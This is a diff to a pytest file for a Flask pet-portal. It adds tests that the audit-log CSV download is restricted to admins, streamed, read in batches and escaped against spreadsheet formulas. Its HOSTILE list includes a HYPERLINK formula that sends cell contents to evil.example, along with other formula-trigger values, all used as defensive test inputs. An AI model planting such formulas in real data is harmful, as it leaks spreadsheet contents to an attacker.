@@ -1,27 +1,33 @@
-"""The CSV downloads, against the real reference stores: the animal list (`/animals.csv`), and what it shares
-with an import's `results.csv`.
+"""The CSV downloads, against the real reference stores: the animal list (`/animals.csv`) and the audit log
+(`/admin/audit.csv`), and what they share with an import's `results.csv`.
 
 The list's download holds exactly the animals the list page shows for the same query, from one listPets call,
-and refuses what the page refuses. Every download is streamed, and a text a spreadsheet would run comes back
-with a leading '.
+and refuses what the page refuses; the audit log's is for those who may read its page, newest first, in the
+page's columns, read a batch at a time. Every download is streamed, and a text a spreadsheet would run comes
+back with a leading '.
 """
 
 import csv
 import io
+import re
 from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 from flask import request_finished, template_rendered
+from sqlalchemy import event
 
+from petportal import audit
 from petportal.downloads import spreadsheet_safe
 from petportal.extensions import db
+from petportal.models import AuditEntry
 from petportal.processes import free_port
 
-from helpers import creates, finished, post_form, press, upload
+from helpers import AuthActions, creates, finished, post_form, press, upload
 
 BOM = "\ufeff"
 ANIMALS_HEADER = ["id", "name", "categoryId", "category", "status"]
+AUDIT_HEADER = ["When (UTC)", "Who", "What", "Account", "Environment", "Details", "From"]
 # What people (or a store's other clients) may name things, that a spreadsheet would run or mangle.
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
 # Names the import's own checks let through (they refuse control characters, and trim tabs).
@@ -217,6 +223,102 @@ def test_customers_keep_downloading_the_list_while_the_portals_database_is_down(
     response = app.test_client().get("/animals.csv")
     assert response.status_code == 200
     assert [row[1] for row in rows_of(response)[1:]] == ["Rex", "Mittens", "Goldie", "Nibbles"]
+
+
+# --- the audit log --------------------------------------------------------------------------------------
+
+
+def test_only_those_who_may_read_the_audit_page_download_the_log(portal_app, auth_for):
+    anonymous = portal_app.test_client()
+    for path in ("/admin/audit", "/admin/audit.csv"):
+        response = anonymous.get(path)
+        assert response.status_code == 302
+        assert response.headers["Location"].startswith("/login?next=")
+        assert auth_for(portal_app, "staff").get(path).status_code == 403
+        assert auth_for(portal_app, "admin").get(path).status_code == 200
+
+
+def test_an_admin_without_the_required_second_factor_is_sent_to_set_it_up_for_the_download_too(make_portal, auth_for):
+    app = make_portal(REQUIRE_ADMIN_MFA=True)
+    admin = auth_for(app, "admin")
+    for path in ("/admin/audit", "/admin/audit.csv"):
+        response = admin.get(path)
+        assert (response.status_code, response.headers["Location"]) == (303, "/account/mfa")
+
+
+def failed_logins(app, usernames):
+    """A failed login with each of `usernames`, each from an address of its own (the limits count per address)."""
+    for number, username in enumerate(usernames, start=1):
+        response = AuthActions(app.test_client()).login(username, "not the password", address=f"10.9.0.{number}")
+        assert response.status_code == 401
+
+
+def stored_newest_first(app):
+    with app.app_context():
+        return db.session.scalars(db.select(AuditEntry).order_by(AuditEntry.id.desc())).all()
+
+
+def test_the_audit_csv_is_the_whole_log_newest_first_in_the_pages_columns(make_portal, database_url, auth_for):
+    app = make_portal(SQLALCHEMY_DATABASE_URI=database_url)
+    failed_logins(app, ["mallory", "trudy"])
+    admin = auth_for(app, "admin")
+    label(admin, 3, "Fish")
+    page = admin.get("/admin/audit").text
+    with sent_responses(app) as sent:
+        response = admin.get("/admin/audit.csv")
+    assert response.status_code == 200 and [flask_response.is_streamed for flask_response in sent] == [True]
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
+    assert response.headers["Cache-Control"] == "no-store"
+    header, *rows = rows_of(response)
+    assert header == AUDIT_HEADER == re.findall(r'<th scope="col">([^<]*)</th>', page)
+    entries = stored_newest_first(app)
+    assert rows == [
+        [
+            entry.at.strftime("%Y-%m-%d %H:%M:%S"),
+            entry.actor,
+            entry.action.replace("_", " "),
+            entry.target or "",
+            entry.environment or "",
+            entry.detail,
+            entry.remote_addr or "",
+        ]
+        for entry in entries
+    ]
+    assert [row[2] for row in rows] == ["category labelled", "login", "login failed", "login failed"]
+    assert rows[0][4:6] == ["production", "category 3 labelled 'Fish'"]
+    assert [row[1] for row in rows[2:]] == ["trudy", "mallory"]
+
+
+def test_user_names_a_spreadsheet_would_run_come_back_as_text_in_the_audit_csv(portal_app, auth_for):
+    failed_logins(portal_app, HOSTILE)
+    _, *rows = rows_of(auth_for(portal_app, "admin").get("/admin/audit.csv"))
+    failed = [row[1] for row in rows if row[2] == "login failed"]
+    assert failed == ["'" + name for name in reversed(HOSTILE)]
+
+
+def test_the_audit_csv_reads_the_log_a_batch_at_a_time(make_portal, database_url, auth_for, monkeypatch):
+    monkeypatch.setattr(audit, "BATCH", 2)
+    app = make_portal(SQLALCHEMY_DATABASE_URI=database_url)
+    failed_logins(app, [f"visitor{number}" for number in range(6)])
+    admin = auth_for(app, "admin")
+    expected = [entry.actor for entry in stored_newest_first(app)]
+    assert len(expected) == 7
+    statements = []
+    with app.app_context():
+        engine = db.engine
+
+    def keep(_conn, _cursor, statement, _parameters, _context, _many):
+        if "FROM audit_log" in statement:
+            statements.append(statement)
+
+    event.listen(engine, "before_cursor_execute", keep)
+    try:
+        _, *rows = rows_of(admin.get("/admin/audit.csv"))
+    finally:
+        event.remove(engine, "before_cursor_execute", keep)
+    assert [row[1] for row in rows] == expected
+    assert len(statements) == 4 and all("LIMIT" in statement for statement in statements)  # 2 + 2 + 2 + 1
 
 
 # --- what every download shares ---------------------------------------------------------------------------
